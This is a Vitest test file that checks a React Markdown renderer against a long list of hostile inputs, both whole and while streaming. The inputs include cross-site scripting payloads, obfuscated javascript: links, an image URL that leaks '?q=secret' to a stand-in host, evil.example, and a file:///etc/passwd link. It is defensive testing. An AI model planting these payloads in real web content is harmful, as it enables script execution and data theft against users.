import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { inEnglish } from "#app/i18n/testing/in-english.tsx";
import { RenderedMarkdown } from "./rendered-markdown.tsx";

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<a href=javascript:alert(1)>x</a>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style=background:url(https://evil.example/)>x</p>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><mtext><img src onerror=alert(1)></mtext></math>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java\u200bscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  '[x](https://example.org "><img src=x onerror=alert(1)>")',
  "[x](https://example.org' onclick='alert(1))",
  '[x](https://example.org" onclick="alert(1))',
  "[x][r]\n\n[r]: javascript:alert(1)",
  '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
  "[r]\n\n[r]: data:text/html,x",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](https://evil.example/?q=secret)",
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```js onload=alert(1)\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "> <img src=x onerror=alert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "[x](//evil.example/%0ajavascript:alert(1))",
  "[__proto__]\n\n[__proto__]: javascript:alert(1)",
];

const ALLOWED_TAGS = new Set(
  (
    "div p h2 h3 h4 h5 h6 ul ol li blockquote hr br strong em del code a input table thead tbody tr th td " +
    "figure figcaption span button pre " +
    "b i u s ins kbd mark small sub sup details summary"
  ).split(" "),
);
const ALLOWED_ATTRIBUTES = new Set(
  (
    "class dir href target rel title start type checked disabled readonly role scope tabindex " +
    "id hidden aria-label aria-live aria-pressed data-streaming data-task data-align data-kind data-external data-display"
  ).split(" "),
);
const ATTRIBUTE = /([^\s"=<>/]+)(?:="([^"]*)")?/g;

/** React writes attributes in double quotes and escapes `<`, `>` and `"` in text: so this finds every tag. */
function findDangers(html: string): string[] {
  return Array.from(html.matchAll(/<(\/?)([^\s>/]+)([^>]*)>/g)).flatMap(([, , tag = "", rest = ""]) => {
    const attributes = Array.from(rest.matchAll(ATTRIBUTE));
    return [
      ...(ALLOWED_TAGS.has(tag) ? [] : [tag]),
      ...attributes.map(([, name = ""]) => name).filter((name) => !ALLOWED_ATTRIBUTES.has(name)),
      ...attributes
        .filter(([, name = "", value = ""]) => name === "href" && !isHarmless(value))
        .map(([all]) => all),
    ];
  });
}

function isHarmless(href: string): boolean {
  const url = new URL(href.replaceAll("&amp;", "&"), "https://app.example/");
  return ["http:", "https:", "mailto:", "tel:"].includes(url.protocol);
}

describe("hostile Markdown", () => {
  it("is recognised by this test", () => {
    expect(findDangers('<p><img src="x" onerror="a"/><a href="javascript:alert(1)">x</a></p>')).toEqual([
      "img",
      "src",
      "onerror",
      'href="javascript:alert(1)"',
    ]);
  });

  it.each(ATTACKS)("gives no dangerous element, attribute or address when whole: %s", (attack) => {
    expect(findDangers(renderToStaticMarkup(inEnglish(<RenderedMarkdown text={attack} />)))).toEqual([]);
  });

  it.each(ATTACKS)("gives none at any step while it grows: %s", (attack) => {
    for (let length = 1; length <= attack.length; length += 1) {
      const text = attack.slice(0, length);
      const html = renderToStaticMarkup(inEnglish(<RenderedMarkdown text={text} streaming />));
      expect(findDangers(html), attack.slice(0, length)).toEqual([]);
    }
  });
});
